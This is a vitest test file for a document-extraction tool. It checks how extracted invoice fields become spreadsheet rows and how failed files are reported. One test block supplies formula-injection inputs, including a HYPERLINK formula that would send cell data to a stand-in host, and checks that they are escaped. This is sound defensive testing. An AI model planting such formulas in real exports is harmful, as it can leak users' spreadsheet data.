import { describe, expect, it } from 'vitest';
import { Problem } from '../../../../nodes/shared/host/problem';
import { defineSchema, type FieldInput } from '../../../../nodes/shared/values/schema/schema';
import type { Values } from '../../../../nodes/shared/basics/values';
import type { Output } from '../../../../nodes/StructuredExtraction/job';
import { metaOf } from '../../../../nodes/StructuredExtraction/record/meta';
import {
	failedRow,
	toOutput,
	withCopies,
} from '../../../../nodes/StructuredExtraction/record/rows';
import { invoice } from '../../../../nodes/StructuredExtraction/fields/templates';
import { withoutFormulas } from '../../../../nodes/shared/values/schema/rows';
import { fieldsOf } from '../fieldsOf';
import { type Known, resultOf } from '../resultOf';

function rowsOf(output: Output, fields: FieldInput[], answer: Values, more: Partial<Known> = {}) {
	const schema = defineSchema('test', fields);
	const pages = [JSON.stringify(answer), ''];
	const result = resultOf({ schema, answer, pages, output, ...more });
	return toOutput(result, metaOf(result));
}
const flat = (fields: FieldInput[], answer: Values) => rowsOf('flat', fields, answer)[0] ?? {};

const order: FieldInput[] = fieldsOf({
	number: 'string!',
	total: 'amount',
	buyer: { name: 'string', paid: 'boolean' },
	lines: [{ text: 'string', price: 'amount' }],
	tags: ['tag', 'string'],
});
const filled = {
	number: '7',
	total: '12.50 EUR',
	buyer: { name: 'Ann', paid: 'yes' },
	lines: [{ text: 'Pen', price: '2 USD' }, { text: 'Ink' }],
	tags: ['a', 'b'],
};
const before = { _file: 'a.pdf', _review: '', _note: '' };
const after = {
	_copy_of: null,
	_source: 'ocr',
	_pages: 2,
	_model: 'm',
	_skipped: null,
};
const document = {
	number: '7',
	total: 12.5,
	total_currency: 'EUR',
	buyer_name: 'Ann',
	buyer_paid: true,
};
/** With the order of the columns. */
const inOrder = (row: object) => JSON.stringify(row);

it('one row per document, with checks, has one column more, also where the document failed', () => {
	const [row = {}] = rowsOf('flatWithChecks', order, filled);
	const checks =
		'Checked: answer, something found, required fields, values • Not checked: pages (whether more pages have text could not be told), sums (the total is in no sum), copies (not compared with other records)';
	expect(row['_checks']).toBe(checks);
	const [plain] = rowsOf('flat', order, filled);
	expect(row).toEqual({ ...plain, _checks: checks });
	const problem = new Problem('the file is empty');
	const schema = defineSchema('test', order);
	const { job } = resultOf({ schema });
	const failed = failedRow('flatWithChecks', 'a.pdf', problem, [], () => ({ job }));
	expect([Object.keys(failed), failed['_checks']]).toEqual([Object.keys(row), '']);
});

describe('one row per document', () => {
	it('spreads groups and amounts out; a list is a short text', () => {
		const lists = { lines: '2 entries: Pen, price 2 USD; Ink', tags: '2 entries: a; b' };
		const expected = { ...before, ...document, ...lists, ...after };
		expect(inOrder(flat(order, filled))).toBe(inOrder(expected));
	});

	it('has the same columns in the same order for an empty document, all plain cells', () => {
		const empty = flat(order, {});
		expect(Object.keys(empty)).toEqual(Object.keys(flat(order, filled)));
		expect(empty['lines']).toBeNull();
		for (const cell of Object.values(empty)) expect(cell).not.toBeInstanceOf(Object);
	});

	it('gives joined names a number where a field has that name already', () => {
		const fields = fieldsOf({
			total: 'amount',
			buyer: { name: 'string', id: 'string' },
			buyer_name: 'string',
			total_currency: 'string',
			total_currency_2: 'string',
		});
		const own = { buyer_name: 'top', total_currency: 'own' };
		const row = flat(fields, { ...own, total: '1 EUR', buyer: { name: 'group' } });
		expect(row).toMatchObject({ ...own, total_currency_3: 'EUR', buyer_name_2: 'group' });
		expect(Object.keys(row)).toHaveLength(8 + 7);
	});

	it.each([
		[1, /^1 entry: Sensor 0 · black, price 12\.50 EUR$/],
		[2, /^2 entries: Sensor 0 · black, price 12\.50 EUR; Sensor 1 · black, price 12\.50 EUR$/],
		[500, /^500 entries: Sensor 0 .{227}…$/],
	])('shows the beginning of a list of %i, in one line', (length, cell) => {
		const lines = Array.from({ length }, (_, index) => {
			return { text: `Sensor ${index}\n\n  black`, price: '12.50 EUR' };
		});
		expect(flat(order, { lines })['lines']).toMatch(cell);
	});
});

describe('one row per line item', () => {
	const rows = rowsOf('listRows', order, filled);
	const noLine = { lines_text: null, lines_price: null, lines_price_currency: null };
	const pen = { lines_text: 'Pen', lines_price: 2, lines_price_currency: 'USD' };

	it('has one row per entry of each list and repeats the fields of the document', () => {
		const place = (_list: string, _row: number) => ({ _list, _row });
		const expected = [
			{ ...pen, tags_value: null, ...place('lines', 1) },
			{ ...noLine, lines_text: 'Ink', tags_value: null, ...place('lines', 2) },
			{ ...noLine, tags_value: 'a', ...place('tags', 1) },
			{ ...noLine, tags_value: 'b', ...place('tags', 2) },
		].map((own) => ({ ...before, ...document, ...own, ...after }));
		expect(rows.map(inOrder)).toEqual(expected.map(inOrder));
	});

	it('keeps one row with the same columns for a document without entries', () => {
		const [only = {}, ...others] = rowsOf('listRows', order, { number: '8' });
		expect(others).toEqual([]);
		expect(only).toMatchObject({ number: '8', ...noLine, _list: null, _row: null });
		expect(Object.keys(only)).toEqual(Object.keys(rows[0] ?? {}));
	});

	it('keeps a breakdown such as tax by rate in one column', () => {
		const tax_lines = [{ rate: 19, net_amount: 100, tax_amount: 19 }];
		const answer = { lines: [{ description: 'Pen' }, { description: 'Ink' }], tax_lines };
		const found = rowsOf('listRows', invoice, answer);
		expect(found.map(({ _list, _row, tax_lines: cell }) => [_list, _row, cell])).toEqual([
			['lines', 1, JSON.stringify(tax_lines)],
			['lines', 2, JSON.stringify(tax_lines)],
		]);
	});
});

describe('texts that a spreadsheet would run', () => {
	const fields = fieldsOf({ supplier: 'string', phone: 'string', total: 'number' });
	const lists = fieldsOf({ lines: [{ text: 'string' }] });
	const link = '=HYPERLINK("http://a.b/?"&A1,"Click")';
	const answer = {
		supplier: link,
		phone: '+49 30 1234',
		total: '-12.50',
		lines: [{ text: '- Pen' }, { text: '@SUM(A1)' }],
	};
	const skipped = [{ fileName: '=x.pdf', reason: 'is empty' }];
	const empty = new Problem('the file is empty', { description: 'Send it again' });
	const of = (output: Output) =>
		rowsOf(output, [...fields, ...lists], answer, {
			fileName: '=cmd.pdf',
			more: { skipped },
		});

	const about = { _file: "'=cmd.pdf", _skipped: "'=x.pdf is empty" };
	it.each(['flat', 'listRows'] as const)('are marked in %s, file names too', (output) => {
		const rows = of(output);
		const plain = { phone: '+49 30 1234', total: -12.5, _review: '' };
		expect(rows[0]).toMatchObject({ supplier: `'${link}`, ...plain, ...about });
		if (output === 'flat') return;
		expect(rows.map((row) => row['lines_text'])).toEqual(['- Pen', "'@SUM(A1)"]);
	});

	it('are marked in headings too, and none replaces another', () => {
		const row = { '=A1': 1, "'=A1": 2, '@SUM(A1)': '=B1', total: '-12.50' };
		expect(withoutFormulas(row)).toEqual({
			"'=A1": 1,
			"'=A1_2": 2,
			"'@SUM(A1)": "'=B1",
			total: '-12.50',
		});
	});

	it('are marked in rows of documents that failed, also where their columns are not known', () => {
		const unknown = () => {
			throw new Error('no schema');
		};
		const row = failedRow('flat', '=cmd.pdf', empty, skipped, unknown);
		expect(row).toEqual({
			...about,
			_review: 'Not read: the file is empty. Send it again; its columns are not known: no schema',
		});
	});

	it('of a record that failed have what happened and what to do, for Review', () => {
		const text = 'Not read: the file is empty. Send it again';
		const [record] = [failedRow('record', 'a.pdf', empty, skipped, () => expect.fail())];
		expect(record).toEqual({
			fileName: 'a.pdf',
			skipped,
			_meta: {
				fileName: 'a.pdf',
				review: [text],
				issues: [{ kind: 'notRead', fields: [], text }],
			},
		});
	});
});

it('tells a fault of the set-up from one of a file, in a record', () => {
	const problem = new Problem('the service did not accept the API key', { fault: 'setUp' });
	const record = failedRow('record', 'a.pdf', problem, [], () => expect.fail());
	const text = 'Not read because of the set-up: the service did not accept the API key';
	expect(record).toMatchObject({ _meta: { review: [text], issues: [{ kind: 'setUp' }] } });
});

describe('a record that was compared with the others of its run', () => {
	it('says what was found, in the column for it if there is one', () => {
		const known = { sums: ['total'], copies: 'not compared' };
		expect(withCopies({ total: 5, _meta: { checked: known, review: [] } }, known, true)).toEqual({
			total: 5,
			_meta: { checked: { sums: ['total'], copies: true }, review: [] },
		});
		const row = { _review: '', total: 5 };
		expect(withCopies(row, known, true)).toBe(row);
		expect(withCopies({ ...row, _checks: '' }, known, true)).toEqual({
			...row,
			_checks: 'Checked: sums (total), copies',
		});
	});
});
